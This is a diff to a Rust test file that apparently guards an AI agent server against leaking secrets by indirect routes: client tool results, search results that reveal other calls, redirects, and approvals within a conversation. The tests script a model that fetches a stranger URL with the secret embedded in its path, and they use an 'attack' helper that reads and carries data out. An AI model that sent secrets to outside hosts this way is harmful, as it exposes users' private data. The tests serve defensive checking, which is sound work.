@@ -1,4 +1,4 @@
-//! The attack with a detour: what is read reaches the caller through a client's tool, another caller's call, a search, or
+//! The attack with a detour: the secret reaches the caller through a client's tool, another caller's call, or a search, or
 //! is sent on by a redirect.
 
 use serde_json::{Value, json};
@@ -9,8 +9,8 @@ use crate::loopback_service::LoopbackService;
 use crate::scripted_model::Line;
 use crate::serve::Served;
 
-/// Says something to an agent that may call the client's tool `get_plan`, whose result is the secret, and answers its calls
-/// until there are no more.
+/// Talks to an agent that may call the client's tool `get_plan`, whose result is the secret, and answers its calls until
+/// there are no more.
 trait Talk {
     fn talk(&self, served: &Served, key: &str);
 }
@@ -63,7 +63,7 @@ impl Talk for OpenAi {
 const WIRES: [&dyn Talk; 2] = [&AgUi, &OpenAi];
 
 #[test]
-fn results_of_a_clients_tool_count_for_what_the_server_sends() {
+fn results_of_client_tools_count_for_calls_of_the_server() {
     for wire in WIRES {
         let strangers = strangers();
         let served = served_with_model([Line::Calls("get_plan", json!({})), carry(&strangers)]);
@@ -74,7 +74,7 @@ fn results_of_a_clients_tool_count_for_what_the_server_sends() {
 }
 
 #[test]
-fn results_of_a_clients_tool_are_no_reason_to_ask_before_the_client_is_called_again() {
+fn results_of_client_tools_do_not_make_further_client_calls_ask() {
     for wire in WIRES {
         let call = |day: u32| Line::Calls("get_plan", json!({"day": day}));
         let served = served_with_model([call(1), call(2), call(3), Line::says("Done.")]);
@@ -104,12 +104,12 @@ fn a_parked_call_is_resumed_by_the_caller_that_made_it() {
 }
 
 #[test]
-fn what_a_search_tells_of_other_calls_counts() {
+fn search_results_about_other_calls_count() {
     let (served, strangers) = (Served::at(configured()), strangers());
     let key = || served.key("local", "call");
     let (one, two, three) = (key(), key(), key());
     served.call(&one, "web_fetch", &json!({"url": strangers.url(&format!("/one-{SECRET}"))})).is(200);
-    // Tools are no secret.
+    // Tools are not secret.
     let found = served.call(&two, "search", &json!({"query": "calculator"})).is(200).body;
     assert!(found.contains("builtin:calculator"), "{found}");
     served.call(&two, "web_fetch", &json!({"url": strangers.url("/two")})).is(200);
@@ -120,7 +120,7 @@ fn what_a_search_tells_of_other_calls_counts() {
 }
 
 #[test]
-fn an_answer_for_a_host_is_none_for_where_it_redirects() {
+fn an_answer_for_a_host_does_not_cover_its_redirects() {
     let far = strangers();
     let served = Served::configured(&BOTH_NEEDED.replace("[\"127", "[\"localhost\", \"127"));
     put_secret(&served.home);
@@ -141,7 +141,7 @@ fn an_answer_for_a_host_is_none_for_where_it_redirects() {
 }
 
 #[test]
-fn an_answer_for_a_call_in_a_conversation_is_none_for_what_its_caller_has_read() {
+fn an_answer_in_a_conversation_does_not_cover_what_its_caller_has_read() {
     let host = strangers();
     let [fetch, read, (tool, carry)] = attack(&host);
     let script = [Line::Calls(fetch.0, fetch.1), Line::Calls(read.0, read.1), Line::says("Done.")];
@@ -161,7 +161,7 @@ fn an_answer_for_a_call_in_a_conversation_is_none_for_what_its_caller_has_read()
     let path = format!("/v1/approvals/{}", asked["call_id"].as_str().unwrap());
     served.send("POST", &path, &key, &json!({"answer": "once"})).is(200);
     call(conversation).is(200);
-    // What the key itself reads later is another matter.
+    // What the key itself reads later is judged separately.
     let [fetch, read, _] = attack(&host);
     for (tool, arguments) in [fetch, read] {
         served.call(&key, tool, &arguments).is(200);
